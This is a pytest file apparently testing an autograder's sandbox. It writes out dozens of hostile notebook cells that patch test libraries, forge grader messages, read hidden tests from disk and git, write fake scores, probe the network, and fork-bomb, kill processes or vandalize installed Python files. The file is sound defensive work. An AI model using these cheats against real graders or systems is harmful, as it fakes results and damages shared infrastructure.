"""Hostile submissions: every cheat and every attack on the grader earns 0 points.

Each case is the blank student release of 01-tensors plus hostile code (a cell added after the
imports, a cell added at the end, or an answer cell replaced). All of them, followed by two
copies of the reference solution, are graded in one batch by the real engine, with small time
limits. The batch works in an "arena": a world-writable folder holding a copy of the bundle,
the submissions, the output folder and a sentinel file, so that only the engine's isolation,
not file permissions, stands between student code and them. A second, small batch runs on a
single worker (one sandbox uid), to see what one submission leaves for the next.

Every hostile cell names its process ``hx-...`` and every process of a batch inherits a marker
in its environment, so /proc shows whatever survived. Destructive cells refuse to run if the
sandbox did not drop root.

A case the engine does not withstand may be marked ``xfail(strict=True)`` with the reason
(``Case(bug=...)``): an engine bug with its repro. None is, today: the README says which
attacks remain out of reach of these defences.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import secrets
import shutil
import socket
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import ROOT, answer_cell_index

from autograder.bundle import load_bundle
from autograder.grade import grade_submissions
from autograder.sandbox import SANDBOX_UID_BASE, Limits

ASSIGNMENT = "01-tensors"
LIMITS = Limits(submission_seconds=20.0, cell_seconds=5.0, memory_mb=1024)
SERIAL_LIMITS = Limits(submission_seconds=20.0, cell_seconds=2.0, memory_mb=1024)
COMM_PREFIX = "hx-"  # every hostile cell renames its process, to find what it left running
SANDBOX_UIDS = range(SANDBOX_UID_BASE, SANDBOX_UID_BASE + 100)
BATCH_ENV = "HOSTILE_TEST_BATCH"  # set while grading: inherited by every sandbox process
HONEST = ("zz-honest-1", "zz-honest-2")

# Wrong values in the right shapes and dtypes for q1: the public check and the ndim/shape
# check pass honestly, the hidden values check fails. A cheat that makes value comparisons
# lie earns that check too.
Q1_DECOY = """
scalar = torch.tensor(0)
vector = torch.tensor([0, 0, 0])
matrix = torch.zeros(3, 2, dtype=torch.int64)
tensor3 = torch.zeros(1, 2, 3, dtype=torch.int64)
tensor3_ndim = 3
tensor3_shape = (1, 2, 3)
"""

# Helpers pasted into cells that talk to the grader's channel themselves.
FRAMING = '''
import json as _json, os as _os, socket as _socket, stat as _stat, struct as _struct

def _socket_fds():
    found = []
    for fd in range(3, 51):
        try:
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found

def _frame(message):
    body = _json.dumps(message).encode()
    return _struct.pack(">I", len(body)) + body

def _all_passed(tests):
    return [{"name": q["name"], "checks": [{"name": c["name"], "outcome": "passed",
             "message": ""} for c in q["checks"]]} for q in tests["questions"]]
'''

ALL_PASSED = '''
def _all_passed(tests, *args):
    return [{"name": q["name"], "checks": [{"name": c["name"], "outcome": "passed",
             "message": ""} for c in q["checks"]]} for q in tests["questions"]]
'''

# Looks for hidden tests where an instructor keeps them and prints (and raises, so it lands in
# the cell-error message the student sees) whatever it finds.
READ_HIDDEN_FILES = '''
import os, sys, time, zipfile
found = []
def grab(path):
    try:
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as zf:
                for name in zf.namelist():
                    if name.endswith((".py", ".ipynb", ".json")):
                        found.append(zf.read(name).decode(errors="replace"))
        else:
            with open(path, errors="replace") as handle:
                found.append(handle.read())
        print("READ", path)
    except OSError as error:
        print("DENIED", path, error.strerror)
known = ["@BUNDLE@", "@SOLUTION@", "@REPO@/assignments/01-tensors/tensors.ipynb",
         "@REPO@/dist/01-tensors/autograder.zip", "@REPO@/dist/01-tensors/solution.ipynb",
         "/autograder/source/autograder.zip", "/autograder/source/tests/q1.py"]
for path in known:
    grab(path)
roots = ["@ARENA@", "@REPO@", os.getcwd(), os.path.expanduser("~"), "/autograder", "/root",
         "/home"] + [os.path.join("/tmp", n) for n in os.listdir("/tmp")
                     if n.startswith(("autograder-", "pytest-of-"))]
deadline = time.monotonic() + 3
for root in roots:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in (".venv", ".git", "site-packages", "__pycache__")]
        for name in files:
            path = os.path.join(folder, name)
            if name in ("autograder.zip", "solution.ipynb") or name.endswith(
                    "-autograder.zip") or (os.path.basename(folder) == "tests" and
                                           name.startswith("q") and name.endswith(".py")) or (
                    "dist" in path.split(os.sep) and name.endswith(".ipynb")):
                grab(path)
        if time.monotonic() > deadline:
            break
print("SEARCHED", len(found))
text = "\\n".join(found)
print(text)
at = text.find("def @HIDDEN@(")
if at >= 0:
    raise RuntimeError(text[at:at + 250])
'''

# The repository the grader runs from is on sys.path; its git history holds the instructor
# notebooks (with the hidden tests), whatever the working tree hides.
READ_HIDDEN_GIT = '''
import os, subprocess, sys, zlib
repos = {p for p in sys.path if p and os.path.isdir(os.path.join(p, ".git"))}
import autograder
repos.add(os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__))))
texts = []
for repo in sorted(repos):
    objects = os.path.join(repo, ".git", "objects")
    for folder, _, files in os.walk(objects):
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as handle:
                    texts.append(zlib.decompress(handle.read()).decode(errors="replace"))
            except (OSError, zlib.error):
                pass
    env = {**os.environ, "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "safe.directory",
           "GIT_CONFIG_VALUE_0": "*"}
    try:
        names = subprocess.run(["git", "-C", repo, "ls-tree", "-r", "--name-only", "HEAD"],
                               capture_output=True, text=True, env=env, timeout=5).stdout
        for name in names.split():
            if name.endswith(".ipynb"):
                texts.append(subprocess.run(["git", "-C", repo, "show", f"HEAD:{name}"],
                                            capture_output=True, text=True, env=env,
                                            timeout=5).stdout)
    except (OSError, subprocess.SubprocessError) as error:
        print("git failed", error)
print("GIT-SEARCHED", len(texts), sorted(repos))
text = "\\n".join(t for t in texts if "def @HIDDEN@(" in t)
print(text)
at = text.find("def @HIDDEN@(")
if at >= 0:
    raise RuntimeError(text[at:at + 250])
'''

# q4's answer is a function the tests call: at that moment the tests (hidden ones included)
# are in the process's memory. It raises them as its error, which a public check reports.
EXFILTRATE_AT_TEST_TIME = '''
def describe(t):
    import gc, sys
    frame = sys._getframe()
    while frame is not None:
        tests = frame.f_locals.get("tests")
        if isinstance(tests, dict) and "questions" in tests:
            break
        frame = frame.f_back
    else:
        tests = next(o for o in gc.get_objects() if isinstance(o, dict) and
                     o.get("type") == "tests")
    source = "\\n".join(q["module"] for q in tests["questions"])
    at = source.find("def @HIDDEN@(")
    raise AssertionError(source[at:at + 1500])
'''

NETWORK = '''
import socket
for host, port in [("127.0.0.1", @PORT@), ("1.1.1.1", 53), ("1.1.1.1", 80)]:
    try:
        with socket.create_connection((host, port), timeout=2) as conn:
            conn.sendall(b"answers please")
        print(f"NET {host}:{port} CONNECTED")
    except OSError as error:
        print(f"NET {host}:{port} FAILED {error}")
try:
    print("DNS", socket.getaddrinfo("example.com", 80))
except OSError as error:
    print("DNS FAILED", error)
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b"x", ("1.1.1.1", 53))
    print("UDP SENT")
except OSError as error:
    print("UDP FAILED", error)
'''

FAKE_RESULT = {"score": 100, "tests": [{"name": "q1", "score": 100, "max_score": 100}]}
WRITE_FAKE_RESULTS = f'''
import json, os
fake = json.dumps({FAKE_RESULT!r})
targets = ["results.json", "grades.csv", "results/results.json",
           os.path.expanduser("~/results.json"), os.path.expanduser("~/grades.csv"),
           "/autograder/results/results.json", "@OUT@/grades.csv",
           "@OUT@/results/@STEM@.json", "@OUT@/feedback/@STEM@.md",
           "@OUT@/.records/@STEM@.json", "@ARENA@/results.json"]
for path in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(fake if not path.endswith(".csv") else "submission,score\\n@STEM@,100\\n")
        print("WROTE", path)
    except OSError as error:
        print("DENIED", path, error.strerror)
'''

REWRITE_TESTS = '''
import os, time
passing = "def test_pass():\\n    pass\\n"
os.makedirs("tests", exist_ok=True)
for n in range(1, 17):
    with open(f"tests/q{n}.py", "w") as handle:
        handle.write(passing)
deadline = time.monotonic() + 3
roots = ["/autograder", "@ARENA@", "@REPO@", os.path.expanduser("~")] + [
    os.path.join("/tmp", n) for n in os.listdir("/tmp")
    if n.startswith(("autograder-", "pytest-of-"))]
for root in roots:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in (".venv", ".git", "site-packages")]
        if os.path.basename(folder) == "tests":
            for name in files:
                if name.endswith(".py"):
                    try:
                        with open(os.path.join(folder, name), "w") as handle:
                            handle.write(passing)
                        print("REWROTE", os.path.join(folder, name))
                    except OSError as error:
                        print("DENIED", os.path.join(folder, name), error.strerror)
        if time.monotonic() > deadline:
            break
print("REWRITE DONE")
'''

PATCH_OTTER = '''
import otter
from otter.test_files import exception_test

def fake_run(self, global_environment):
    for case in self.test_cases:
        self.test_case_results.append(exception_test.TestCaseResult(
            test_case=case, message="passed", passed=True))

exception_test.ExceptionTestFile.run = fake_run
exception_test.test_case.call_func = lambda self, func, global_environment: None
otter.Notebook.check = lambda self, *args, **kwargs: "All tests passed!"
print("PATCHED OTTER")
'''

VANDALIZE = '''
import os, shutil
def attempt(label, action):
    try:
        action()
        print("DID", label)
    except OSError as error:
        print("DENIED", label, error.strerror)
attempt("remove sentinel", lambda: os.remove("@ARENA@/sentinel.txt"))
attempt("overwrite sentinel", lambda: open("@ARENA@/sentinel.txt", "w").write("vandalized"))
attempt("overwrite out sentinel", lambda: open("@OUT@/sentinel.txt", "w").write("vandalized"))
attempt("remove out", lambda: shutil.rmtree("@OUT@"))
attempt("remove submissions", lambda: shutil.rmtree("@ARENA@/submissions"))
attempt("remove bundle", lambda: shutil.rmtree("@ARENA@/bundle"))
attempt("write repo", lambda: open("@REPO@/autograder/checks.py", "a").write("# vandalized"))
attempt("write repo root", lambda: open("@REPO@/vandalized.txt", "w").write("x"))
for path in @LEFTOVERS@:
    attempt(f"leave {path}", lambda path=path: open(path, "w").write("left behind"))
attempt("kill grader", lambda: os.kill(@GRADER_PID@, 9))
print("VANDAL DONE")
'''


@dataclass(frozen=True)
class Case:
    name: str
    code: str
    where: str = "top"  # "top" (after the imports), "end", or a question (its answer cell)
    statuses: tuple[str, ...] = ()  # allowed statuses; () = any
    q1: str = ""  # replaces q1's answer (see Q1_DECOY)
    ran: str = ""  # text the log must contain: proof the hostile code ran
    bug: str = ""  # an engine bug: the case is xfail(strict=True) with this reason


# Rewrite what the grader and the next submissions import: torch, numpy, the standard library
# and our check helpers, wherever Python lives (a venv under /tmp included).
PYTHON_VANDAL = """
import os, numpy, torch, autograder.checks
for path in (torch.__file__, numpy.__file__, os.__file__, autograder.checks.__file__):
    try:
        with open(path, "a") as handle:
            handle.write("\\nraise SystemExit('vandalized')\\n")
        print("WROTE", path)
    except OSError as error:
        print("DENIED", path, error.strerror)
print("VANDAL PYTHON DONE")
"""

CASES = [
    Case("h01-rewrite-test-files", REWRITE_TESTS, ran="REWRITE DONE"),
    Case("h02-patch-otter-runners", PATCH_OTTER, ran="PATCHED OTTER"),
    Case("h03-patch-torch-equal",
         "import torch\ntorch.equal = lambda *args, **kwargs: True", statuses=("tampered",)),
    Case("h04-patch-torch-allclose",
         "import torch\ntorch.allclose = lambda *args, **kwargs: True", statuses=("tampered",)),
    Case("h05-patch-assert-close",
         "import torch.testing\ntorch.testing.assert_close = lambda *args, **kwargs: None",
         statuses=("tampered",)),
    Case("h06-patch-manual-seed", "import torch\ntorch.manual_seed = lambda seed: None",
         statuses=("tampered",)),
    Case("h07-patch-cuda-available", "import torch\ntorch.cuda.is_available = lambda: True",
         statuses=("tampered",)),
    Case("h08-patch-tensor-eq",
         "import torch\n"
         "torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)",
         statuses=("tampered",), q1=Q1_DECOY),
    Case("h09-patch-tensor-all",
         "import torch\ntorch.Tensor.all = lambda self, *args, **kwargs: torch.tensor(True)",
         statuses=("tampered",), q1=Q1_DECOY),
    Case("h10-patch-isinstance",
         "import builtins, torch\n_real = builtins.isinstance\n"
         "builtins.isinstance = lambda obj, kind: True if kind is torch.Tensor "
         "else _real(obj, kind)", statuses=("tampered",)),
    Case("h11-patch-numpy-assert-allclose",
         "import numpy.testing\nnumpy.testing.assert_allclose = lambda *args, **kwargs: None",
         statuses=("tampered",)),
    Case("h12-patch-checks-assert-tensor",
         "import autograder.checks as checks\n"
         "checks.assert_tensor = lambda *args, **kwargs: None\n"
         "checks.assert_shape = lambda *args, **kwargs: None", statuses=("tampered",)),
    Case("h13-fake-checks-module",
         "import sys, types\nfake = types.ModuleType('autograder.checks')\n"
         "fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)\n"
         "sys.modules['autograder.checks'] = fake", statuses=("tampered",)),
    Case("h14-fake-grader",
         "import otter\nclass FakeGrader:\n"
         "    def check(self, *args, **kwargs):\n        return 'All tests passed!'\n"
         "    def check_all(self, *args, **kwargs):\n        return 'All tests passed!'\n"
         "    def export(self, *args, **kwargs):\n        return None\n"
         "    def __getattr__(self, name):\n        return lambda *args, **kwargs: 100\n"
         "grader = FakeGrader()\notter.Notebook = FakeGrader\nprint('FAKE GRADER')",
         where="end", ran="FAKE GRADER"),
    Case("h15-write-fake-results", WRITE_FAKE_RESULTS, where="end", ran="/autograder/results"),
    Case("h16-read-hidden-files", READ_HIDDEN_FILES, ran="SEARCHED"),
    Case("h17-read-hidden-git", READ_HIDDEN_GIT, ran="GIT-SEARCHED"),
    Case("h18-exfiltrate-at-test-time", EXFILTRATE_AT_TEST_TIME, where="q4"),
    Case("h19-network", NETWORK, ran="NET 1.1.1.1:80"),
    Case("h20-infinite-loop", "while True:\n    pass", statuses=("timeout",)),
    Case("h21-memory-bomb-torch",
         "import torch\nbomb = torch.empty(50 * 2**30 // 4)\nbomb.fill_(1.0)"),
    Case("h22-memory-bomb-bytearray", "bomb = bytearray(50 * 2**30)"),
    Case("h23-memory-creep",
         "import torch\nchunks = []\nwhile True:\n"
         "    chunks.append(torch.ones(64 * 2**20 // 4))"),
    Case("h24-daemon-escape",
         "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
         "        while True:\n            time.sleep(0.1)\n    os._exit(0)\n"
         "print('DAEMON STARTED')", ran="DAEMON STARTED"),
    # Paced (at most 10 MB/s, whatever the CPU): an unpaced flood runs into h26's bug and may
    # end as "crashed" before the cell's time is up.
    Case("h25-print-flood",
         "import time\nwhile True:\n    print('x' * 10000)\n    time.sleep(0.001)",
         statuses=("timeout",)),
    Case("h26-print-gigabytes",
         "for _ in range(1500):\n    print('x' * 1_000_000)", statuses=("graded",)),
    Case("h27-print-20mb", "for _ in range(2000):\n    print('x' * 10_000)",
         statuses=("graded",), ran="xxxxxxxxxx"),
    Case("h29-os-exit", "import os\nos._exit(0)", statuses=("crashed",)),
    Case("h30-kill-self", "import os\nos.kill(os.getpid(), 9)", statuses=("crashed",)),
    Case("h31-kill-everything",
         "import os\nfor pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
         "    if pid not in (1, os.getpid()):\n        try:\n            os.kill(pid, 9)\n"
         "        except OSError:\n            pass\nos.kill(-1, 9)\nprint('STILL ALIVE')"),
    Case("h32-sys-exit", "import sys\nsys.exit()", statuses=("graded",)),
    Case("h33-keyboard-interrupt", "raise KeyboardInterrupt", statuses=("graded",)),
    Case("h34-thread-writes-socket", FRAMING + '''
import threading, time
def pester():
    while True:
        for fd in range(3, 51):
            try:
                _os.write(fd, _frame({"type": "result", "nonce": "0" * 32,
                                      "questions": [], "tampering": []}))
            except OSError:
                pass
        time.sleep(0.05)
threading.Thread(target=pester, daemon=True).start()
''', statuses=("tampered", "crashed")),
    Case("h35-forged-result-on-fd", FRAMING + '''
forged = _frame({"type": "result", "nonce": "0" * 32, "tampering": [],
                 "questions": [{"name": "q1", "checks": [{"name": "test_q1_public",
                                "outcome": "passed", "message": ""}]}]})
for fd in range(3, 51):
    try:
        _os.write(fd, forged)
    except OSError:
        pass
''', statuses=("tampered", "crashed")),
    Case("h36-forge-protocol", FRAMING + '''
channel = _socket.socket(fileno=_os.dup(_socket_fds()[0]))
channel.sendall(_frame({"type": "cells_done", "errors": [], "notes": [], "log": ""}))
size = _struct.unpack(">I", channel.recv(4, _socket.MSG_WAITALL))[0]
tests = _json.loads(channel.recv(size, _socket.MSG_WAITALL))
channel.sendall(_frame({"type": "result", "nonce": tests["nonce"], "tampering": [],
                        "questions": _all_passed(tests)}))
_os._exit(0)  # the grader believed the forged result: nothing more to do
''', statuses=("tampered", "crashed")),
    Case("h37-patch-socket-sendall", '''
import json, socket, struct
_real_sendall = socket.socket.sendall
def _sendall(self, data, *args):
    try:
        message = json.loads(bytes(data[4:]))
        if message.get("type") == "result":
            for question in message["questions"]:
                for check in question["checks"]:
                    check["outcome"] = "passed"
            message["tampering"] = []
            body = json.dumps(message).encode()
            data = struct.pack(">I", len(body)) + body
    except (ValueError, KeyError, TypeError):
        pass
    return _real_sendall(self, data, *args)
socket.socket.sendall = _sendall
''', statuses=("tampered",)),
    Case("h38-patch-json-dumps", '''
import json
_real_dumps = json.dumps
def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and obj.get("type") == "result":
        for question in obj["questions"]:
            for check in question["checks"]:
                check["outcome"] = "passed"
        obj["tampering"] = []
    return _real_dumps(obj, *args, **kwargs)
json.dumps = _dumps
''', statuses=("tampered",)),
    Case("h39-patch-sandbox-globals", ALL_PASSED + '''
import gc
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") == "_grade_in_child":
        obj.__globals__["_run_tests"] = _all_passed
        obj.__globals__["integrity_changes"] = lambda before: []
''', statuses=("tampered",)),
    Case("h40-raw-thread-left-running",
         "import _thread, time\n\ndef spin():\n    while True:\n        time.sleep(0.05)\n\n"
         "_thread.start_new_thread(spin, ())", statuses=("tampered",)),
    Case("h41-vandalize", VANDALIZE, ran="VANDAL DONE"),
    Case("h42-kill-zygote",
         "import os\nfor action in (lambda: os.kill(os.getppid(), 9),\n"
         "               lambda: os.killpg(os.getpgid(os.getppid()), 9)):\n"
         "    try:\n        action()\n        print('KILLED')\n"
         "    except OSError as error:\n        print('DENIED', error)\n", ran="DENIED"),
    # Last before the honest ones: its orphans linger (see test_fork_works_after_a_fork_bomb).
    Case("h43-fork-bomb-raw", "import os\nwhile True:\n    os.fork()"),
    Case("h44-rewrite-python-itself", PYTHON_VANDAL, ran="VANDAL PYTHON DONE"),
]
CASE_NAMES = [c.name for c in CASES]
CONTROL = "c00-decoy-control"  # the decoy alone, no cheat

# Every hostile cell starts here: it names its process (to find leftovers in /proc) and
# refuses to run destructive code if the sandbox failed to drop root.
PRELUDE = """import ctypes, os
ctypes.CDLL(None).prctl(15, b"@COMM@", 0, 0, 0)
if os.getuid() == 0:
    raise SystemExit("the sandbox runs as root: hostile code not run")
"""
LEFTOVER_DIRS = ("/tmp", "/var/tmp", "/dev/shm")

# Graded one after the other on ONE worker (one sandbox uid): what a submission leaves behind
# meets the next one.
CENSUS = """
import subprocess
others = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        status = open(f"/proc/{pid}/status").read()
    except OSError:
        continue
    fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
    if int(fields["Uid"].split()[0]) == os.getuid() and int(pid) != os.getpid():
        others.append(fields["State"].strip()[:1])
print("OTHER TASKS OF MY UID", len(others), sorted(set(others)))
try:
    subprocess.run(["true"], check=True)
    print("FORK OK")
except OSError as error:
    print("FORK FAILED", error)
"""
SERIAL_CASES = [
    Case("s1-fork-bomb",
         "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
         statuses=("timeout",)),
    Case("s2-fork-after-bomb", CENSUS, statuses=("graded",), ran="OTHER TASKS"),
    Case("s3-leave-note",
         "for folder in ('/tmp', '/var/tmp', '/dev/shm'):\n"
         "    with open(f'{folder}/hostile-note-@TOKEN@', 'w') as note:\n"
         "        note.write('answers of s3')\n", statuses=("graded",)),
    Case("s4-read-note",
         "for folder in ('/tmp', '/var/tmp', '/dev/shm'):\n"
         "    try:\n"
         "        print('NOTE FOUND', open(f'{folder}/hostile-note-@TOKEN@').read())\n"
         "    except OSError:\n"
         "        print('NO NOTE')\n", statuses=("graded",), ran="NOTE"),
]


def _hostile_notebook(blank: dict, case: Case, placeholders: dict[str, str]) -> dict:
    nb = json.loads(json.dumps(blank))
    code = PRELUDE.replace("@COMM@", f"{COMM_PREFIX}{case.name[:12]}") + case.code
    for key, value in placeholders.items():
        code = code.replace(f"@{key}@", value)
    if case.q1:
        nb["cells"][answer_cell_index(nb, "q1")]["source"] = case.q1
    cell = {"cell_type": "code", "id": f"hostile-{case.name}", "metadata": {},
            "execution_count": None, "outputs": [], "source": code}
    if case.where == "top":
        imports = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code" and
                       "import torch" in "".join(c["source"]))
        nb["cells"].insert(imports + 1, cell)
    elif case.where == "end":
        nb["cells"].append(cell)
    else:
        nb["cells"][answer_cell_index(nb, case.where)]["source"] = code
    return nb


def _hostile_processes() -> list[str]:
    """Live processes the hostile batches left behind, whatever their uid: named by a hostile
    cell (COMM_PREFIX), or started under our zygotes (BATCH_ENV in their environment)."""
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            comm = Path(f"/proc/{pid}/comm").read_text().strip()
            status = Path(f"/proc/{pid}/status").read_text()
            environ = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        uid = int(fields.get("Uid", "-1").split()[0])
        state = fields.get("State", "").strip()[:1]
        ours = BATCH_ENV.encode() + b"=" in environ and int(pid) != os.getpid()
        if state != "Z" and (comm.startswith(COMM_PREFIX) or ours):
            left.append(f"pid {pid} uid {uid} {comm} {state}")
    return left


def _wait_for_orphans(seconds: float = 5.0) -> None:
    """Give PID 1 time to reap a fork bomb's zombies, so that the next grading run (ours or
    anyone's) that gets the same sandbox uid does not inherit them (see
    test_fork_works_after_a_fork_bomb)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        zombies = 0
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                status = Path(f"/proc/{pid}/status").read_text()
                uid = int(status.split("Uid:", 1)[1].split()[0])
                zombies += "State:\tZ" in status and uid in SANDBOX_UIDS
        if not zombies:
            return
        time.sleep(0.1)


@contextlib.contextmanager
def _grading_env() -> Iterator[None]:
    """cwd = the repository (the grader hides <cwd>/assignments and <cwd>/dist) and a marker in
    the environment every process of the batch inherits."""
    os.environ[BATCH_ENV] = secrets.token_hex(4)
    try:
        with contextlib.chdir(ROOT):
            yield
    finally:
        del os.environ[BATCH_ENV]


def _hidden_markers(bundle: Path) -> list[str]:
    markers = [f"def {check.name}(" for question in load_bundle(bundle).questions
               for check in question.checks if check.hidden]
    assert markers, "the bundle has no hidden checks"
    return markers


@dataclass
class Batch:
    arena: Path
    out: Path
    results: dict
    seconds: float
    markers: list[str]
    listener: socket.socket
    leftovers: list[str]
    cwd_before: str
    processes_left: list[str]


@pytest.fixture(scope="module")
def batch(releases):
    release = releases[ASSIGNMENT]
    arena = Path(tempfile.mkdtemp(prefix="hostile-arena-"))
    token = secrets.token_hex(4)
    leftovers = [f"{folder}/hostile-leftover-{token}" for folder in LEFTOVER_DIRS]
    listener = socket.socket()
    try:
        os.chmod(arena, 0o777)
        bundle_dir = arena / "bundle"
        bundle_dir.mkdir()
        bundle = shutil.copy2(release.bundle, bundle_dir / "autograder.zip")
        shutil.copy2(release.solution, bundle_dir / "solution.ipynb")
        for path in (bundle_dir, *bundle_dir.iterdir()):
            os.chmod(path, 0o755 if path.is_dir() else 0o644)
        submissions, out = arena / "submissions", arena / "out"
        for folder in (submissions, out):
            folder.mkdir()
            os.chmod(folder, 0o777)
        for sentinel in (arena / "sentinel.txt", out / "sentinel.txt"):
            sentinel.write_text("sentinel")
            os.chmod(sentinel, 0o666)
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        markers = _hidden_markers(Path(bundle))
        blank = json.loads(release.student_notebook.read_text())
        placeholders = {
            "ARENA": str(arena), "OUT": str(out), "BUNDLE": str(bundle),
            "SOLUTION": str(bundle_dir / "solution.ipynb"), "REPO": str(ROOT),
            "PORT": str(listener.getsockname()[1]), "HIDDEN": markers[0][4:-1],
            "LEFTOVERS": repr(leftovers), "GRADER_PID": str(os.getpid()),
        }
        for case in CASES:
            notebook = _hostile_notebook(blank, case, {**placeholders, "STEM": case.name})
            (submissions / f"{case.name}.ipynb").write_text(json.dumps(notebook))
        for stem in HONEST:
            shutil.copy2(release.solution, submissions / f"{stem}.ipynb")
        control = json.loads(json.dumps(blank))
        control["cells"][answer_cell_index(control, "q1")]["source"] = Q1_DECOY
        (submissions / f"{CONTROL}.ipynb").write_text(json.dumps(control))
        for path in submissions.iterdir():
            os.chmod(path, 0o666)

        cwd_before = os.getcwd()
        began = time.monotonic()
        with _grading_env():
            results = grade_submissions(Path(bundle), [submissions], workers=2, limits=LIMITS,
                                        out_dir=out)
        seconds = time.monotonic() - began
        _wait_for_orphans()
        yield Batch(arena=arena, out=out, results={r.submission: r for r in results},
                    seconds=seconds, markers=markers, listener=listener, leftovers=leftovers,
                    cwd_before=cwd_before,
                    processes_left=_hostile_processes())
    finally:
        listener.close()
        for path in leftovers:
            with contextlib.suppress(OSError):
                os.remove(path)
        shutil.rmtree(arena, ignore_errors=True)


@pytest.fixture(scope="module")
def serial_batch(releases, tmp_path_factory):
    release = releases[ASSIGNMENT]
    token = secrets.token_hex(4)
    notes = [f"{folder}/hostile-note-{token}" for folder in LEFTOVER_DIRS]
    submissions = tmp_path_factory.mktemp("serial")
    blank = json.loads(release.student_notebook.read_text())
    for case in SERIAL_CASES:
        notebook = _hostile_notebook(blank, case, {"TOKEN": token})
        (submissions / f"{case.name}.ipynb").write_text(json.dumps(notebook))
    try:
        with _grading_env():
            results = grade_submissions(release.bundle, [submissions], workers=1,
                                        limits=SERIAL_LIMITS)
        _wait_for_orphans()
        yield {r.submission: r for r in results}
    finally:
        for path in notes:
            with contextlib.suppress(OSError):
                os.remove(path)


def _case_param(case: Case) -> object:
    marks = [pytest.mark.xfail(strict=True, reason=case.bug)] if case.bug else []
    return pytest.param(case, id=case.name, marks=marks)


def _leaks(batch: Batch, text: str) -> list[str]:
    return [marker for marker in batch.markers if marker in text]


@pytest.mark.parametrize("case", [_case_param(c) for c in CASES])
def test_hostile_submission_earns_nothing(batch, case):
    if case.name == "h17-read-hidden-git" and not (ROOT / ".git").is_dir():
        pytest.skip("the repository is not a git checkout: no history to read")
    result = batch.results[case.name]
    summary = f"{result.status} {result.score:g}/{result.possible:g}: {result.message[:600]}"
    assert result.score == 0, summary
    if case.statuses:
        assert result.status in case.statuses, summary
    if case.ran:
        assert case.ran in result.log, f"the hostile code did not run: {summary}\n" \
                                      f"{result.log[:1000]}"
    feedback = (batch.out / "feedback" / f"{case.name}.md").read_text()
    report = (batch.out / "results" / f"{case.name}.json").read_text()
    leaked = _leaks(batch, result.log + result.message + feedback + report)
    assert not leaked, f"hidden test source reached the outputs: {leaked}"


def test_honest_submissions_after_the_hostile_ones_score_full_marks(batch):
    for stem in HONEST:
        result = batch.results[stem]
        assert result.status == "graded", result.message
        assert result.score == result.possible > 0, result.message


def test_every_submission_has_a_row(batch):
    with open(batch.out / "grades.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["submission"] for r in rows] == sorted([*CASE_NAMES, CONTROL, *HONEST])
    assert all(r["status"] != "pending" for r in rows), rows
    assert set(batch.results) == {*CASE_NAMES, CONTROL, *HONEST}


def test_batch_is_quick(batch):
    # A few cases run into the 5 s cell limit (h20, h25, h43); two workers; a loaded machine.
    assert batch.seconds < 120, f"the hostile batch took {batch.seconds:.0f} s"


def test_timeouts_are_quick(batch):
    for name in ("h20-infinite-loop", "h25-print-flood"):
        result = batch.results[name]
        assert result.duration < LIMITS.cell_seconds + 5, (name, result.duration)
        assert "cell" in result.message and "longer than" in result.message, result.message


def test_output_is_capped(batch):
    for name in ("h25-print-flood", "h26-print-gigabytes", "h27-print-20mb"):
        result = batch.results[name]
        assert len(result.log) < LIMITS.max_output_bytes + 1000, (name, len(result.log))
        for path in batch.out.rglob(f"{name}*"):
            assert path.stat().st_size < 1_000_000, path
    assert "more characters of output cut" in batch.results["h27-print-20mb"].log


def test_network_is_unreachable(batch):
    log = batch.results["h19-network"].log
    assert "CONNECTED" not in log, log
    assert log.count("FAILED") >= 4, log
    with pytest.raises(BlockingIOError):
        batch.listener.accept()


def test_no_hostile_process_survives(batch):
    assert not batch.processes_left, batch.processes_left
    assert not _hostile_processes()


def test_hidden_tests_never_reach_student_visible_files(batch):
    leaked = {}
    for folder in ("feedback", "results"):
        for path in (batch.out / folder).iterdir():
            found = _leaks(batch, path.read_text())
            if found:
                leaked[path.name] = found
    assert not leaked, leaked


def test_fake_result_files_change_nothing(batch):
    name = "h15-write-fake-results"
    result = batch.results[name]
    # Writes may "succeed" into the sandbox's private /tmp; what counts is the real folder.
    assert "WROTE /autograder" not in result.log, result.log
    report = json.loads((batch.out / "results" / f"{name}.json").read_text())
    assert report["score"] == 0
    assert report["tests"] and all(t["score"] == 0 for t in report["tests"])
    assert "submission,score" not in (batch.out / "grades.csv").read_text()
    expected = {"grades.csv", "sentinel.txt"} | {
        f"{folder}/{stem}.{ext}" for stem in [*CASE_NAMES, CONTROL, *HONEST]
        for folder, ext in (("results", "json"), ("feedback", "md"), (".records", "json"))}
    present = {p.relative_to(batch.out).as_posix() for p in batch.out.rglob("*") if p.is_file()}
    assert present == expected, present ^ expected
